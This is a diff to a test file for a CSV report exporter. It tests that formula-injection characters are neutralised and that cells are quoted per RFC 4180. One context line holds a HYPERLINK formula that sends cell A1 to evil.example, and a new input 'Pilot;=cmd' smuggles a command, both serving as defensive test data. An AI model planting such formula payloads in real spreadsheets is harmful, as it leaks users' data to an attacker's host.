@@ -9,11 +9,23 @@ describe('the report CSV', () => {
     expect(row?.[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
   })
 
-  it('prefixes every risky first character: = + - @ tab CR, and leaves the rest', () => {
-    expect(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'plain', '−3.9 days', ''].map(neutralise)).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", 'plain', '−3.9 days', ''])
+  it('prefixes every risky first character of text: = + - @ tab CR; leaves the rest; numbers stay numbers', () => {
+    expect(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'plain', '−3.9 days', '', -120000, null].map(neutralise)).toEqual([
+      "'=1+1",
+      "'+1",
+      "'-2",
+      "'@SUM(A1)",
+      "'\tx",
+      "'\rx",
+      'plain',
+      '−3.9 days',
+      '',
+      -120000,
+      '',
+    ])
   })
 
-  it('is RFC 4180: CRLF line ends, quotes doubled, fields with commas or line breaks quoted', () => {
-    expect(toCsv(['a', 'b'], [['x, y', 'say "hi"'], ['line\nbreak', 3]])).toBe('a,b\r\n"x, y","say ""hi"""\r\n"line\nbreak",3\r\n')
+  it('is RFC 4180: CRLF line ends, quotes doubled, every text cell quoted (a semicolon cannot start a cell)', () => {
+    expect(toCsv(['a', 'b'], [['x, y', 'say "hi"'], ['Pilot;=cmd', -3]])).toBe('"a","b"\r\n"x, y","say ""hi"""\r\n"Pilot;=cmd",-3\r\n')
   })
 })
